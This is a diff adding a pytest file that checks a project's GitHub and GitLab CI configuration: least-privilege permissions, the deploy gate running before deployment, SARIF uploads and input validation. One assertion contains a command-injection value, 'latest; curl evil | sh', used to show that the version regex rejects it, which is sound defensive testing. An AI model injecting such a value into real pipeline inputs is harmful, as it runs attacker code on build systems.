@@ -1,0 +1,158 @@
+"""What each workflow and the GitLab files promise: CI's matrix and PostgreSQL, the gate
+before the deploy, least privilege, and inputs that match the component's spec."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+import yaml
+
+from tests.ci.tools import ROOT, load_yaml, split_component, triggers
+
+CI = ROOT / ".github" / "workflows" / "ci.yml"
+DEPLOY = ROOT / "examples" / "github" / "deploy.yml"
+BACKFILL = ROOT / "examples" / "github" / "backfill-audit.yml"
+COMPONENT = ROOT / "templates" / "pipeledger.yml"
+GITLAB_EXAMPLE = ROOT / "examples" / "gitlab" / ".gitlab-ci.yml"
+GATE_USES = re.compile(r"^pipeledger/pipeledger@[0-9a-f]{40}$")
+INTERPOLATION = re.compile(r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]")
+
+
+def _run_lines(job: dict[str, Any]) -> list[str]:
+    return [step["run"] for step in job["steps"] if "run" in step]
+
+
+def test_ci_reads_only_and_tests_both_pythons_against_postgres() -> None:
+    workflow = load_yaml(CI)
+    assert set(triggers(workflow)) == {"push", "pull_request"}
+    assert workflow["permissions"] == {"contents": "read"}
+    (job,) = workflow["jobs"].values()
+    assert "permissions" not in job
+    assert job["runs-on"].startswith("ubuntu")
+    assert job["strategy"]["matrix"]["python-version"] == ["3.11", "3.12"]
+    assert job["env"]["PIPELEDGER_REQUIRE_POSTGRES"] == "1"
+    assert job["services"]["postgres"]["ports"] == ["5432:5432"]
+    runs = _run_lines(job)
+    assert any(run.startswith("make lint") for run in runs)
+    assert any(run.startswith("make test") for run in runs)
+
+
+def test_deploy_is_gated_before_it_runs() -> None:
+    workflow = load_yaml(DEPLOY)
+    assert workflow["permissions"] == {}
+    job = workflow["jobs"]["deploy"]
+    assert job["environment"] == "production"
+    assert job["permissions"] == {
+        "contents": "read",
+        "actions": "read",
+        "deployments": "read",
+        "pull-requests": "read",
+    }
+    names = [step.get("id") or step.get("name") for step in job["steps"]]
+    gate = job["steps"][names.index("gate")]
+    assert GATE_USES.match(gate["uses"])
+    assert gate["with"]["environment"] == job["environment"]
+    assert names.index("gate") < names.index("Deploy")
+
+
+def test_backfill_is_scheduled_and_only_the_audit_job_writes_security_events() -> None:
+    workflow = load_yaml(BACKFILL)
+    assert "schedule" in triggers(workflow)
+    assert workflow["permissions"] == {}
+    writers = {
+        name
+        for name, job in workflow["jobs"].items()
+        if job["permissions"].get("security-events") == "write"
+    }
+    assert writers == {"audit"}
+    for name, job in workflow["jobs"].items():
+        uploads = [s for s in job["steps"] if "upload-sarif@" in str(s.get("uses", ""))]
+        assert bool(uploads) == (name in writers)
+
+
+def test_backfill_collects_the_org_then_audits_into_sarif() -> None:
+    jobs = load_yaml(BACKFILL)["jobs"]
+    collect = " ".join(_run_lines(jobs["backfill"]))
+    assert "pipeledger collect --platform github --org" in collect
+    assert "pipeledger verify" in collect
+    audit = " ".join(_run_lines(jobs["audit"]))
+    assert "pipeledger audit" in audit
+    assert "--format sarif --output sarif=results.sarif" in audit
+    (upload,) = [s for s in jobs["audit"]["steps"] if "upload-sarif@" in str(s.get("uses"))]
+    assert upload["with"]["sarif_file"] == "results.sarif"
+    assert jobs["audit"]["needs"] == "backfill"
+
+
+# --- GitLab ------------------------------------------------------------------------------------
+
+
+def _component() -> tuple[dict[str, Any], dict[str, Any]]:
+    header, jobs = split_component(COMPONENT.read_text(encoding="utf-8"))
+    return yaml.safe_load(header)["spec"]["inputs"], yaml.safe_load(jobs)
+
+
+def test_component_declares_what_it_uses_and_uses_what_it_declares() -> None:
+    inputs, _jobs = _component()
+    used = set(INTERPOLATION.findall(split_component(COMPONENT.read_text("utf-8"))[1]))
+    assert used == set(inputs)
+    assert {"policy", "environment", "sinks", "fail-on", "version", "image", "stage"} <= used
+
+
+def test_component_defaults_respect_their_own_options_and_regex() -> None:
+    inputs, _jobs = _component()
+    assert "default" not in inputs["policy"]  # required
+    assert inputs["environment"]["default"] == "$CI_ENVIRONMENT_NAME"
+    assert inputs["image"]["default"] == "python:3.12-slim"
+    for name, spec in inputs.items():
+        if "options" in spec:
+            assert spec["default"] in spec["options"], name
+        if "regex" in spec:
+            assert re.fullmatch(spec["regex"], str(spec["default"])), name
+    assert not re.fullmatch(inputs["version"]["regex"], "latest; curl evil | sh")
+
+
+def test_component_job_passes_inputs_as_variables_and_publishes_reports() -> None:
+    _inputs, jobs = _component()
+    job = jobs["pipeledger-gate"]
+    assert job["variables"]["PIPELEDGER_POLICY"] == "$[[ inputs.policy ]]"
+    assert job["variables"]["PIPELEDGER_ENVIRONMENT"] == "$[[ inputs.environment ]]"
+    assert job["variables"]["PIPELEDGER_SINK"] == "$[[ inputs.sinks ]]"
+    assert job["variables"]["PIPELEDGER_FAIL_ON"] == "$[[ inputs.fail-on ]]"
+    script = "\n".join(job["script"])
+    assert "$[[" not in script
+    assert 'pip install --quiet "pipeledger==$PL_VERSION"' in script
+    assert job["variables"]["PL_VERSION"] == "$[[ inputs.version ]]"
+    reports = job["artifacts"]["reports"]
+    assert f"--output gitlab={reports['codequality']}" in script
+    assert f"--output junit={reports['junit']}" in script
+    assert job["artifacts"]["when"] == "always"
+
+
+def test_gitlab_example_includes_the_component_with_known_inputs() -> None:
+    inputs, _jobs = _component()
+    pipeline = load_yaml(GITLAB_EXAMPLE)
+    (include,) = pipeline["include"]
+    assert re.fullmatch(
+        r"\$CI_SERVER_FQDN/[\w.-]+/pipeledger/pipeledger@[\w.]+", include["component"]
+    )
+    given = include["inputs"]
+    assert set(given) <= set(inputs)
+    assert {name for name, spec in inputs.items() if "default" not in spec} <= set(given)
+    assert given["stage"] in pipeline["stages"]
+    assert re.fullmatch(inputs["version"]["regex"], str(given["version"]))
+
+
+def test_gitlab_example_deploys_after_the_gate_and_audits_on_schedule() -> None:
+    pipeline = load_yaml(GITLAB_EXAMPLE)
+    deploy = pipeline["deploy-production"]
+    assert deploy["needs"] == ["pipeledger-gate"]
+    assert deploy["environment"]["name"] == pipeline["include"][0]["inputs"]["environment"]
+    stages = pipeline["stages"]
+    assert stages.index(pipeline["include"][0]["inputs"]["stage"]) < stages.index("deploy")
+    audit = pipeline["pipeledger-backfill-audit"]
+    assert audit["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
+    script = "\n".join(audit["script"])
+    assert "pipeledger collect --platform gitlab --group" in script
+    assert "pipeledger audit" in script
+    assert audit["artifacts"]["when"] == "always"
